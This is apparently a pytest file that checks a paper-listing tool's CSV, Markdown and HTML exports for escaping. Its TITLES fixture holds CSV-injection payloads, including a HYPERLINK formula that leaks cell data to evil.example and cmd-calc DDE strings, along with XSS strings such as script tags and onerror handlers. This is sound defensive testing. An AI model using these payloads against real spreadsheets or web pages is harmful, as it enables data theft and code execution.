"""Exports opened by other programs: a CSV cell never starts a spreadsheet formula, and the
Markdown and HTML exports carry titles as text, never as markup. The titles are read through
the real ingest from a listing, and the exports written by the real command line."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path
from typing import Any

import pytest

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
TITLES = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Open") <script>alert(1)</script>',
    "+1+cmd|' /C calc'!A0",
    "-2+3 <img src=x onerror=alert(2)>",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1 </textarea><svg onload=alert(3)>",
]
MARKUP = ("<script>alert(1)", "<img src=x", "</textarea>", "<svg onload")
"""The markup in the titles, as it would appear if it went through unescaped."""


@pytest.fixture
def formulas(sqlite_url: str, tmp_path: Path, cli: Any) -> str:
    listing = tmp_path / "formulas.csv"
    with listing.open("w", encoding="utf-8", newline="") as fh:
        out = csv.writer(fh)
        out.writerow(("title", "abstract", "arxiv_id", "published"))
        for i, title in enumerate(TITLES, 1):
            code = f"We study things. Code: https://github.com/lab/f{i}."
            out.writerow((title, code, f"2302.0000{i}", "2023-02-01"))
    done = cli("run", str(listing), "--no-enrich", "--no-check", "--db", sqlite_url)
    assert done.returncode == 0, done.stderr
    return sqlite_url


def _titles_as_read(db: str, cli: Any) -> dict[str, str]:
    doc = json.loads(cli("report", "--format", "json", "--db", db).stdout)
    return {p["arxiv_id"]: p["title"] for p in doc["papers"]}


def test_csv_cells_never_start_a_formula(formulas: str, tmp_path: Path, cli: Any) -> None:
    read = _titles_as_read(formulas, cli)
    assert len(read) == len(TITLES)
    assert sum(t[:1] in FORMULA_START for t in read.values()) >= 4  # the attack reached the db
    out = tmp_path / "papers.csv"
    assert cli("export", "-o", str(out), "--db", formulas).returncode == 0
    per_link = cli("export", "--per-link", "--db", formulas)
    assert per_link.returncode == 0, per_link.stderr
    for text in (out.read_text(encoding="utf-8"), per_link.stdout):
        rows = list(csv.reader(io.StringIO(text, newline="")))
        assert len(rows) == len(TITLES) + 1
        assert [c for r in rows for c in r if c[:1] in FORMULA_START] == []
    with out.open(encoding="utf-8", newline="") as fh:
        shown = {r["arxiv_id"]: r["title"] for r in csv.DictReader(fh)}
    assert shown == {k: ("'" + t if t[:1] in FORMULA_START else t) for k, t in read.items()}


def test_markdown_export_shows_markup_as_text(formulas: str, cli: Any) -> None:
    text = cli("export", "-f", "markdown", "--db", formulas).stdout
    assert [m for m in MARKUP if m in text] == []
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in text
    assert "&lt;img src=x onerror=alert(2)&gt;" in text


def test_html_export_shows_markup_as_text(formulas: str, tmp_path: Path, cli: Any) -> None:
    out = tmp_path / "report.html"
    assert cli("export", "-f", "html", "-o", str(out), "--db", formulas).returncode == 0
    page = out.read_text(encoding="utf-8")
    scripts = re.findall(r"<script\b[^>]*>(.*?)</script>", page, flags=re.S | re.I)
    outside = re.sub(r"<script\b[^>]*>.*?</script>", "", page, flags=re.S | re.I)
    assert [m for m in MARKUP if m in outside] == []
    # titles reach the page's script only as JSON data with `<` escaped: nothing closes it
    assert [m for s in scripts for m in MARKUP if m in s] == []
    assert all(f"alert({n})" in page for n in (1, 2, 3))  # the titles are there, as text
